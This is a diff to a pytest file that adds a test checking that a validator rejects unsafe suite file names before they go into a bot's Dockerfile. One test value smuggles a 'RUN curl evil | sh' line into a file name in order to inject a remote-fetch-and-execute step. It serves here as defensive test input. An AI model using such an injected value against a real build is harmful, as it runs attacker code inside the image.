@@ -10,7 +10,7 @@ import pytest
 from hub.records import SpaceMachine, SpaceVolume
 from leaderboard import __version__
 from leaderboard.boards import parse_board
-from steward.bot_space.deciding import decide_steps
+from steward.bot_space.deciding import decide_steps, suite_file_problems
 from steward.bot_space.facts import SetupFacts, SpaceFacts
 from steward.bot_space.wanted import QUEUE_FOLDER, WantedSpace, bucket_for, expected_host, is_space_id, space_files
 
@@ -87,3 +87,21 @@ def test_without_a_wheel_the_image_installs_this_version_from_the_index(tmp_path
     files = space_files(parse_board(text), text, "", wheel)
     assert files[wheel.name] == b"wheel"
     assert f"'/tmp/{wheel.name}[contents]'\nCOPY board.yaml" in files["Dockerfile"].decode()
+
+
+@pytest.mark.parametrize(
+    ("path", "codes"),
+    [
+        ("suite.yaml", []),
+        ("suites/next_2.yaml", []),
+        ("/etc/suite.yaml", ["suite-file"]),
+        ("../suite.yaml", ["suite-file"]),
+        ("my suite.yaml", ["suite-name"]),
+        ("a.yaml /\nRUN curl evil | sh\n#.yaml", ["suite-name"]),
+        ("$HOME.yaml", ["suite-name"]),
+        ("suite.yaml\n", ["suite-name"]),
+    ],
+)
+def test_the_name_of_a_suite_file_adds_no_line_to_the_image(path: str, codes: list[str]) -> None:
+    """A board file may come from a stranger, and the Dockerfile of the bot's Space names its suite file."""
+    assert [problem.code for problem in suite_file_problems(path)] == codes
